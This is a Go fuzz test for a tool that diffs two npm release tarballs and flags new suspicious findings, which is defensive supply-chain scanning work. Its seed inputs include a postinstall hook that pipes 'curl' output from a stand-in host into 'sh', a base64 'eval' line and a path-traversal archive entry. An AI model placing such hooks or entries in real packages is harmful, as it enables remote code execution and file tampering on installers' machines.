package release

import (
	"archive/tar"
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/pkgward/pkgward/internal/artifact"
	"github.com/pkgward/pkgward/internal/codescan"
)

var fuzzLimits = artifact.Limits{MaxTotal: 4 << 20, MaxFile: 256 << 10, MaxFiles: 200, MaxRatio: 200}

// tarBytes is an uncompressed tar of name/body pairs.
func tarBytes(f *testing.F, pairs ...string) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for i := 0; i+1 < len(pairs); i += 2 {
		tw.WriteHeader(&tar.Header{Name: pairs[i], Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(pairs[i+1]))})
		tw.Write([]byte(pairs[i+1]))
	}
	if err := tw.Close(); err != nil {
		f.Fatal(err)
	}
	return b.Bytes()
}

// FuzzCompare diffs two arbitrary tar archives read as npm tarballs: no
// panic, every structural finding of NEW that OLD lacks is reported, and a
// release compared with itself adds no archive or code finding.
func FuzzCompare(f *testing.F) {
	pkg := `{"name":"x","version":"1.0.0","scripts":{"test":"node t.js"}}`
	honest := tarBytes(f, "package/package.json", pkg, "package/index.js", "module.exports = 1\n")
	f.Add(honest, tarBytes(f, "package/package.json", `{"name":"x","version":"1.0.1","scripts":{"postinstall":"curl -s https://x.example/i | sh"}}`,
		"package/index.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\n"))
	f.Add(honest, tarBytes(f, "package/package.json", pkg, "package/../../etc/x", "x", "zz/package.json", pkg))
	f.Fuzz(func(t *testing.T, older, newer []byte) {
		side := func(data []byte) (Side, bool) {
			tr, err := artifact.Read(context.Background(), "x.tar", bytes.NewReader(data), fuzzLimits)
			if err != nil {
				return Side{}, false
			}
			return Side{Tree: tr, Findings: codescan.Scan(tr, codescan.DefaultRules())}, true
		}
		o, ok1 := side(older)
		n, ok2 := side(newer)
		if !ok1 || !ok2 {
			return
		}
		got := map[string]bool{}
		for _, f := range Compare(o, n) {
			got[evidenceKey(f)] = true
		}
		old := map[string]bool{}
		for _, f := range o.Tree.Findings {
			old[evidenceKey(f)] = true
		}
		for _, f := range n.Tree.Findings {
			if k := evidenceKey(f); !old[k] && !got[k] {
				t.Errorf("NEW's %s (%s) not reported", f.Rule, f.Message)
			}
		}
		for _, f := range Compare(n, n) {
			if strings.HasPrefix(f.Rule, "archive-") || f.Rule == RuleNewFinding {
				t.Errorf("a release compared with itself reports %s: %s", f.Rule, f.Message)
			}
		}
	})
}
